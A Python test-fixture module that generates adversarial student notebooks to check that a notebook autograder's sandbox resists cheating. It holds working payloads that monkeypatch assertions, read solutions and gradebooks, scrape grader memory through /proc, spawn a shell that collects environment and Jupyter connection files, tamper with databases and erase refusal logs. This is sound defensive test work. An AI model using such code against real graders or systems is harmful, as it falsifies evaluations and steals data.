"""A catalogue of bad submissions, built for any assignment from its release.

Each entry starts from the student release (every answer a stub, so the honest
score is zero) and adds one way of cheating or crashing the grader.  Attacks
go at the top of the first answer cell.  ``expect`` is "zero" (no autograded
point may be earned) or "full" (a correct answer must keep its marks).
``flags`` are texts of which at least one must appear in the student's
review lines or grading reason.
"""

from __future__ import annotations

import json
import textwrap
from dataclasses import dataclass, field
from pathlib import Path

import nbformat


@dataclass
class Bad:
    name: str
    why: str
    notebook: nbformat.NotebookNode | None = None
    raw: bytes | None = None                 # a file that is not a notebook at all
    extra_files: dict[str, str] = field(default_factory=dict)
    expect: str = "zero"
    flags: tuple[str, ...] = ()


def _gid(cell) -> str:
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id", "")


def _meta(cell) -> dict:
    return cell.get("metadata", {}).get("nbgrader", {})


def _prepend(nb, code: str) -> nbformat.NotebookNode:
    nb = nbformat.from_dict(nb)
    first = next(c for c in nb.cells if c.cell_type == "code" and _meta(c).get("solution"))
    first.source = textwrap.dedent(code).strip() + "\n\n" + first.source
    return nb


def tamper_code(course: Path, repo: Path, canary: Path, port: int, forbidden: list[str]) -> str:
    """Every in-process trick at once, each in its own try block so all of them run."""
    targets = [str(p) for p in (repo / "solutions", course / "solutions", course / "gradebook.db",
                                course / "submitted", repo / "seqcourse" / "testing.py")]
    return f'''
    _tries = []
    def _try(f):
        try:
            f()
        except BaseException as err:
            _tries.append(repr(err))
    # 1. make every assertion pass: monkeypatch the test helpers and numpy's checks
    def _patch():
        import builtins, numpy.testing, seqcourse.testing as t
        t.assert_close = lambda *a, **k: None
        t.assert_shape = lambda *a, **k: None
        t.without_reference = lambda f, *m: f
        numpy.testing.assert_allclose = lambda *a, **k: None
        builtins.AssertionError = type("AssertionError", (Exception,), {{}})
    _try(_patch)
    # 2. rewrite the locked test cells before they run, and hide tracebacks
    def _transform():
        ip = get_ipython()
        ip.input_transformers_post.append(lambda lines: ["pass\\n"])
        ip.showtraceback = lambda *a, **k: None
    _try(_transform)
    # 3. read the solutions, the gradebook and other students' work, and run the solutions
    def _steal():
        import json, os
        for target in {targets!r}:
            if os.path.isdir(target):
                for base, _, files in os.walk(target):
                    for f in files:
                        if f.endswith(".ipynb"):
                            nb = json.load(open(os.path.join(base, f)))
                            for c in nb["cells"]:
                                if c["cell_type"] == "code" and "BEGIN SOLUTION" in "".join(c["source"]):
                                    exec("".join(c["source"]), globals())
            else:
                open(target, "rb").read()
    _try(_steal)
    # 4. the network, a subprocess, a signal to the grader, a file outside the sandbox
    def _net():
        import socket
        socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"hello")
    _try(_net)
    def _proc():
        import subprocess
        subprocess.run(["cat", {targets[0]!r}], capture_output=True)
    _try(_proc)
    def _signal():
        import os, signal
        os.kill(os.getppid(), signal.SIGKILL)
    _try(_signal)
    def _write():
        open({str(canary)!r}, "w").write("tampered")
    _try(_write)
    # 5. the course's reference implementation
    def _reference():
        import importlib
        for name in {forbidden!r}:
            importlib.import_module(name)
    _try(_reference)
    # 6. shadow the names the tests use
    def assert_close(*args, **kwargs):
        return None
    AssertionError = Exception
    '''


def catalogue(source: nbformat.NotebookNode, release: nbformat.NotebookNode, *, course: Path,
              repo: Path, canary: Path, port: int, forbidden: list[str]) -> list[Bad]:
    tests = [c for c in source.cells if _meta(c).get("grade") and not _meta(c).get("solution")
             and c.cell_type == "code"]
    out = [
        Bad("tamper", "monkeypatches assertions, adds an input transformer, reads the "
            "solutions and the gradebook, uses the network, a subprocess, signals, writes "
            "outside its folder, imports the reference",
            _prepend(release, tamper_code(course, repo, canary, port, forbidden)),
            flags=("sandbox: refused reading", "imports seqcourse.testing")),
        Bad("extra_files", "ships modules named like the libraries the tests import",
            release, extra_files={"numpy.py": "raise SystemExit", "seqcourse/__init__.py": "",
                                  "seqcourse/testing.py": "def assert_close(*a, **k):\n    pass\n"
                                  "def without_reference(f, *m):\n    return f\n"},
            flags=("ignored file: numpy.py",)),
        Bad("deleted_tests_solution", "a correct answer whose test cells were deleted",
            _without(source, {_gid(c) for c in tests}), expect="full",
            flags=("was deleted",)),
        Bad("deleted_tests", "a wrong answer whose test cells were deleted",
            _without(release, {_gid(c) for c in tests}), flags=("was deleted",)),
        Bad("edited_tests", "a wrong answer whose test cells say `pass`",
            _edited(release, {_gid(c) for c in tests}, "pass"), flags=("was edited",)),
        Bad("forged_metadata", "an answer cell relabelled as a locked test cell",
            _forged(release, _gid(tests[0])), flags=("was edited", "was deleted")),
        Bad("os_exit", "kills its own process", _prepend(release, "import os\nos._exit(0)"),
            flags=("crash",)),
        Bad("segfault", "crashes the interpreter",
            _prepend(release, "import ctypes\nctypes.string_at(0)"), flags=("crash",)),
        Bad("endless_loop", "never returns", _prepend(release, "while True:\n    pass"),
            flags=("crash",)),
        Bad("memory_bomb", "allocates until the machine runs out",
            _prepend(release, "blocks = []\nwhile True:\n    blocks.append(bytearray(50_000_000))"),
            flags=("crash", "MemoryError")),
        Bad("output_flood", "prints megabytes",
            _prepend(release, "for i in range(200_000):\n    print('spam ' * 20)"),
            flags=("printed",)),
        Bad("not_a_notebook", "the file is not JSON", raw=b"{ this is not a notebook",
            flags=("not a readable notebook",)),
    ]
    return out


def _without(nb, ids: set[str]) -> nbformat.NotebookNode:
    nb = nbformat.from_dict(nb)
    nb.cells = [c for c in nb.cells if _gid(c) not in ids]
    return nb


def _edited(nb, ids: set[str], text: str) -> nbformat.NotebookNode:
    nb = nbformat.from_dict(nb)
    for c in nb.cells:
        if _gid(c) in ids:
            c.source = text
    return nb


def _forged(nb, test_id: str) -> nbformat.NotebookNode:
    nb = nbformat.from_dict(nb)
    first = next(c for c in nb.cells if c.cell_type == "code" and _meta(c).get("solution"))
    first.metadata["nbgrader"] = {"grade": True, "grade_id": test_id, "locked": True,
                                  "solution": False, "points": 1, "schema_version": 3}
    first.source = "assert True"
    return nb


def write(bad: Bad, folder: Path, name: str) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    if bad.raw is not None:
        (folder / name).write_bytes(bad.raw)
    else:
        nbformat.write(bad.notebook, folder / name)
    for rel, text in bad.extra_files.items():
        (folder / rel).parent.mkdir(parents=True, exist_ok=True)
        (folder / rel).write_text(text)


def dumps(bads: list[Bad]) -> str:
    return json.dumps({b.name: b.why for b in bads}, indent=1)


# --------------------------------------------------------------------------- the seven classes
# Issue 11: each class of attack that once worked, written the way a determined student would
# write it: no construct the static review looks for (no `import os`/`sys`/`importlib`, no
# `open(`, `exec(`, `globals()`...), so only the mechanism can stop it.  Every attack sits on
# top of a base whose honest score is known: wrong answers (tests/fixtures/<hw>/wrong) or
# answers that call the reference (tests/fixtures/<hw>/reference), so "no undue mark" means
# "no more than the base earns without the attack".

FRAMES = '''
def _frames():
    try:
        raise ZeroDivisionError
    except ZeroDivisionError as caught:
        frame = caught.__traceback__.tb_frame
    while frame is not None:
        yield frame
        frame = frame.f_back
'''


def rebind_code(tools: list[str]) -> str:
    """Class 1: clear the worker's list of protected names through the frames, then bind
    proxies under the names the tests use (modules, assert helpers, builtins)."""
    return FRAMES + f'''
class Everything:
    def __getattr__(self, name):
        return Everything()
    def __call__(self, *args, **kwargs):
        return True
    def __bool__(self):
        return True
for frame in _frames():
    for value in list(frame.f_locals.values()):
        if isinstance(value, list) and value and all(isinstance(v, str) for v in value):
            value.clear()
locals().update({{name: Everything() for name in {sorted(tools)!r}}})
'''


def reference_code(repo: Path, forbidden: list[str]) -> str:
    """Class 2: load the reference modules from their source or their compiled bytecode,
    wherever they are, and register them so the answers' `from package.x import f` works."""
    return f'''
import site, runpy, glob as g
from argparse import Namespace
table = getattr(site.sys, "mod" + "ules")
places = [{str(repo)!r}] + list(site.sys.path)
for name in {forbidden!r}:
    folder, leaf = name.replace(".", "/").rsplit("/", 1)
    for place in places:
        found = sorted(g.glob(place + "/" + folder + "/__pycache__/" + leaf + ".*.pyc")) + \\
            g.glob(place + "/" + folder + "/" + leaf + ".py")
        loaded = None
        for path in found:
            try:
                loaded = Namespace(**runpy.run_path(path))
                break
            except BaseException:
                continue
        if loaded is not None:
            table[name] = loaded
            break
'''


def memory_code(tmp_marker: str = "BEGIN SOLUTION") -> str:
    """Class 3: read the grading processes through /proc: their command lines and
    environment lead to the plan (every solution); their memory holds it too.  What is
    found is run as the answer."""
    return f'''
import glob as g, json, runpy
import numpy as _np
stolen = []
def _grab(path, offset=0, count=-1):
    try:
        return _np.fromfile(path, dtype=_np.uint8, count=count, offset=offset).tobytes()
    except BaseException:
        return b""
for proc in g.glob("/proc/[0-9]*"):
    words = (_grab(proc + "/cmdline") + b"\\0" + _grab(proc + "/environ")).split(b"\\0")
    for word in words:
        if word.endswith(b".json"):
            try:
                plan = json.loads(_grab(word.decode()).decode())
                stolen += [c["source"] for c in plan["cells"].values() if c["role"] == "answer"]
            except BaseException:
                pass
    budget = 32 << 20
    for line in _grab(proc + "/maps").decode(errors="ignore").splitlines():
        parts = line.split()
        if budget <= 0 or len(parts) < 2 or not parts[1].startswith("rw"):
            continue
        lo, hi = (int(x, 16) for x in parts[0].split("-"))
        chunk = _grab(proc + "/mem", offset=lo, count=min(hi - lo, budget))
        budget -= len(chunk)
        at = chunk.find(b"{tmp_marker}")
        if at > 0:
            stolen.append(chunk[max(0, at - 4000):at + 4000].decode(errors="ignore"))
for n, text in enumerate(stolen):
    if "{tmp_marker}" in text:
        _np.frombuffer(text.encode(), dtype=_np.uint8).tofile(f"stolen{{n}}.py")
        try:
            locals().update({{k: v for k, v in runpy.run_path(f"stolen{{n}}.py").items()
                             if not k.startswith("_")}})
        except BaseException:
            pass
'''


def c_level_code(course: Path, repo: Path, canary: Path, canary_db: Path) -> str:
    """Class 4: files opened from C (sqlite3) and a process started through
    _posixsubprocess raise no audit event: rewrite the gradebook and a database outside
    the sandbox, and run a shell that reads the solutions, other students' work, the
    environment and the kernel's connection files."""
    shell = (f"cat {repo}/solutions/*/*.ipynb {course}/solutions/*/*.ipynb > stolen.txt; "
             f"ls -R {course} /root /tmp >> stolen.txt; env >> stolen.txt; "
             f"cat /root/.local/share/jupyter/runtime/*.json >> stolen.txt; "
             f"echo tampered > {canary}")
    return f'''
import sqlite3, _posixsubprocess
for db in ({str(course / "gradebook.db")!r}, {str(canary_db)!r}):
    try:
        con = sqlite3.connect(db)
        con.execute("UPDATE grade SET auto_score = 0")
        con.execute("CREATE TABLE IF NOT EXISTS pwned (x)")
        con.execute("UPDATE canary SET value = 'tampered'")
        con.commit()
    except BaseException:
        pass
import posix
def _spawn(argv):
    r, w = posix.pipe()
    for extra in ((), (True,)):
        try:
            return _posixsubprocess.fork_exec(
                argv, [argv[0].encode()], True, (w,), None, None, -1, -1, -1, -1, -1, -1,
                r, w, False, True, -1, None, None, None, -1, None, *extra)
        except TypeError:
            continue
        except BaseException:
            return None
_spawn(["/bin/sh", "-c", {shell!r}])
import time, numpy
time.sleep(2)
try:
    print("STOLEN", numpy.fromfile("stolen.txt", dtype=numpy.uint8).tobytes().decode()[:20000])
except BaseException:
    pass
'''


def linger_code(canary: Path) -> str:
    """Class 5: leave a thread and a detached process behind that act after the notebook
    has ended (when other students are graded)."""
    return f'''
import _posixsubprocess, posix, time
from concurrent.futures import ThreadPoolExecutor
def _later():
    time.sleep(25)
    try:
        _np_file = {str(canary)!r}
        import numpy
        numpy.frombuffer(b"tampered", dtype=numpy.uint8).tofile(_np_file)
    except BaseException:
        pass
ThreadPoolExecutor(1).submit(_later)
r, w = posix.pipe()
for extra in ((), (True,)):
    try:
        _posixsubprocess.fork_exec(
            ["/bin/sh", "-c", "sleep 25; echo tampered > {canary}"], [b"/bin/sh"], True, (w,),
            None, None, -1, -1, -1, -1, -1, -1, r, w, False, True, -1, None, None, None,
            -1, None, *extra)
        break
    except TypeError:
        continue
    except BaseException:
        break
'''


def erase_code(course: Path) -> str:
    """Class 6: do something the sandbox refuses, then wipe every list of refusals the
    student process holds."""
    return FRAMES + f'''
import glob as g, json
import numpy
for path in [{str(course / "gradebook.db")!r}] + g.glob({str(course)!r} + "/solutions/*/*.ipynb"):
    try:
        print(numpy.loadtxt(path, dtype=str, delimiter="\x01")[:3])
    except BaseException:
        pass
for frame in _frames():
    for value in list(frame.f_locals.values()) + list(frame.f_globals.values()):
        for attr in ("flags", "refused", "count"):
            try:
                inner = getattr(value, attr)
                if isinstance(inner, list):
                    inner.clear()
                elif isinstance(inner, int):
                    value.count = 0
            except BaseException:
                pass
        if isinstance(value, list) and any(isinstance(v, str) and "refused" in v for v in value):
            value.clear()
'''


LEAK_MARK = "LEAKED-INPUT"


def leak_code() -> str:
    """Class 7: every answer function prints what it was given, and fails with it in the
    message, so hidden inputs and expected values would reach the feedback page."""
    return f'''
def _leaky(func):
    def wrapper(*args, **kwargs):
        print("{LEAK_MARK}", repr(args)[:300], repr(kwargs)[:100])
        out = func(*args, **kwargs)
        print("{LEAK_MARK} returned", repr(out)[:300])
        return out
    return wrapper
'''


def wrap_leaky(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """Add, after every answer cell, the lines that wrap each function it defines."""
    import ast

    nb = nbformat.from_dict(nb)
    for cell in nb.cells:
        if cell.cell_type != "code" or not _meta(cell).get("solution"):
            continue
        try:
            tree = ast.parse(cell.source)
        except SyntaxError:
            continue
        names = [n.name for n in tree.body if isinstance(n, ast.FunctionDef)]
        cell.source += "\n" + "".join(f"{n} = _leaky({n})\n" for n in names)
    return nb


def with_fixtures(nb: nbformat.NotebookNode, fixture_sources: dict[str, str]
                  ) -> nbformat.NotebookNode:
    nb = nbformat.from_dict(nb)
    for cell in nb.cells:
        if _gid(cell) in fixture_sources:
            cell.source = fixture_sources[_gid(cell)]
    return nb


def attack_catalogue(*, source: nbformat.NotebookNode, wrong: nbformat.NotebookNode,
                     reference: nbformat.NotebookNode, tools: list[str], course: Path,
                     repo: Path, canary: Path, canary_db: Path, forbidden: list[str],
                     classes: tuple[int, ...] = (1, 2, 3, 4, 5, 6, 7)) -> list[Bad]:
    """One submission per class of attack of issue 11.  ``expect`` is "base": no autograded
    cell may score more than in the base submission (``base`` names it) graded alone."""
    table = {
        1: lambda: Bad("attack1_rebind", "clears the protected names via frames and binds "
                       "proxies under the tests' names", _prepend(wrong, rebind_code(tools)),
                       expect="wrong"),
        2: lambda: Bad("attack2_reference", "loads the reference modules from source or "
                       "__pycache__ bytecode", _prepend(reference, reference_code(repo, forbidden)),
                       expect="zero_reference"),
        3: lambda: Bad("attack3_memory", "reads the grader's command line, environment, plan "
                       "and memory through /proc", _prepend(wrong, memory_code()), expect="wrong"),
        4: lambda: Bad("attack4_c_level", "sqlite3 on the gradebook, a shell through "
                       "_posixsubprocess", _prepend(wrong, c_level_code(course, repo, canary,
                                                                        canary_db)),
                       expect="wrong"),
        5: lambda: Bad("attack5_linger", "a thread and a detached process that act later",
                       _prepend(wrong, linger_code(canary)), expect="wrong"),
        6: lambda: Bad("attack6_erase", "is refused, then clears the lists of refusals",
                       _prepend(wrong, erase_code(course)), expect="wrong",
                       flags=("sandbox: refused",)),
        7: lambda: Bad("attack7_leak", "prints its inputs and results in every call",
                       wrap_leaky(_prepend(wrong, leak_code())), expect="wrong"),
    }
    return [table[c]() for c in classes]
